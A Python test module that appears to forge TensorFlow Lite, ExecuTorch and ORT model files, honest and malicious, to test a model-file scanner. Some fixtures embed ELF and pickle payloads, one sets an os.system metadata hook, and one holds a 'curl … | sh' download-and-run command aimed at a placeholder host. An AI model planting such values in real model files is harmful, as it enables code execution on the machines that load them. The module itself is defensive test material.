"""TensorFlow Lite, ExecuTorch and ORT models, honest and not."""

from __future__ import annotations

import struct

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import Flat, constant, flatbuffer
from stannary.testing.forges.tensors import _ELF as ELF
from stannary.testing.forges.tensors import _PICKLE as PICKLE


def _tflite(
    *, custom: str = "", buffer: bytes = bytes(16), index: int = 0, tensor_buffer: int = 1, dims: tuple[int, ...] = (2, 2)
) -> bytes:
    code: Flat = {0: ("b", 32), 1: custom, 3: ("i", 32)} if custom else {0: ("b", 9), 3: ("i", 9)}
    tensor: Flat = {0: ("*i", list(dims)), 1: ("b", 0), 2: ("I", tensor_buffer), 3: "w"}
    operator: Flat = {0: ("I", index), 1: ("*i", [0]), 2: ("*i", [0])}
    graph: Flat = {0: [tensor], 1: ("*i", [0]), 2: ("*i", [0]), 3: [operator], 4: "main"}
    model: Flat = {0: ("I", 3), 1: [code], 2: [graph], 3: "made by hand", 4: [{}, {0: buffer}]}
    return flatbuffer(model, b"TFL3")


_TFLITE: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_tflite(), False),
    "detection": (_tflite(custom="TFLite_Detection_PostProcess"), False),
    "flex": (_tflite(custom="FlexAddV2"), False),
    "flex_write": (_tflite(custom="FlexWriteFile"), True),
    "flex_python": (_tflite(custom="FlexPyFunc"), True),
    "custom": (_tflite(custom="AcmeLoader"), None),
    "custom_shell": (_tflite(custom="SystemExec"), True),
    "custom_plain": (_tflite(custom="EcosystemsEvaluation"), None),
    "index": (_tflite(index=4000), True),
    "buffer_index": (_tflite(tensor_buffer=4000), True),
    "dims": (_tflite(dims=(1 << 30, 1 << 30, 4)), True),
    "payload": (_tflite(buffer=ELF), True),
    "appended": (_tflite() + ELF, True),
    "pickle_buffer": (_tflite(buffer=PICKLE), True),
    "root_outside": (struct.pack("<I", 0x18) + b"TFL3", None),
    "root_far_outside": (struct.pack("<I", 0x7FFFFFF0) + b"TFL3" + bytes(60), True),
    "truncated": (_tflite()[:60], None),
}
for _name, (_content, _bad) in _TFLITE.items():
    forge(f"tflite.{_name}", filename="model.tflite", family="TensorFlow Lite", malicious=_bad)(constant(_content))


def _pte(
    *, backend: str = "XnnpackBackend", operator: str = "aten::add", blob: bytes = bytes(16), segment: tuple[int, int] | None = None
) -> bytes:
    delegate: Flat = {0: backend, 1: {0: ("b", 0), 1: ("I", 0)}}
    plan: Flat = {0: "forward", 6: [{0: operator, 1: "out"}], 7: [delegate]}
    program: Flat = {0: ("I", 0), 1: [plan], 3: [{0: blob}]}
    if segment:
        program[4] = [{0: ("Q", segment[0]), 1: ("Q", segment[1])}]
    return flatbuffer(program, b"ET12")


_PTE: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_pte(), False),
    "native": (_pte(blob=bytes(64) + ELF), True),
    "pickle": (_pte(blob=PICKLE), True),
    "outside": (_pte(segment=(1 << 40, 64)), True),
    "backend": (_pte(backend="AcmeBackend"), None),
    "operator": (_pte(operator="acme::run"), None),
    "plan_code": (_pte(operator="aten::add").replace(b"forward", b"forward"), False),
    "truncated": (_pte()[:40], None),
}
for _name, (_content, _bad) in _PTE.items():
    forge(f"executorch.{_name}", filename="model.pte", family="ExecuTorch", malicious=_bad)(constant(_content))


def _ort(
    *,
    domain: str = "",
    operator: str = "Relu",
    weights: bytes = bytes(16),
    metadata: dict[str, str] | None = None,
    text: str = "",
) -> bytes:
    node: Flat = {0: "n", 2: domain, 5: operator}
    if text:
        node[10] = [{0: "a", 2: ("i", 3), 5: text}]
    graph: Flat = {0: [{0: "w", 3: ("i", 1), 4: weights}], 2: [node]}
    model: Flat = {2: "made by hand", 7: graph, 9: [{0: k, 1: v} for k, v in (metadata or {}).items()]}
    return flatbuffer({0: "5", 1: model}, b"ORTM")


_ORT: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_ort(metadata={"author": "somebody"}), False),
    "custom": (_ort(domain="acme.ops", operator="Run"), None),
    "payload": (_ort(weights=ELF), True),
    "pickle": (_ort(weights=PICKLE), True),
    "metadata_code": (_ort(metadata={"hook": "__import__('os').system('echo stannary')"}), True),
    "attribute_shell": (_ort(text="curl https://example.invalid/x | sh"), True),
    "truncated": (_ort()[:40], None),
}
for _name, (_content, _bad) in _ORT.items():
    forge(f"ort.{_name}", filename="model.ort", family="ORT", malicious=_bad)(constant(_content))
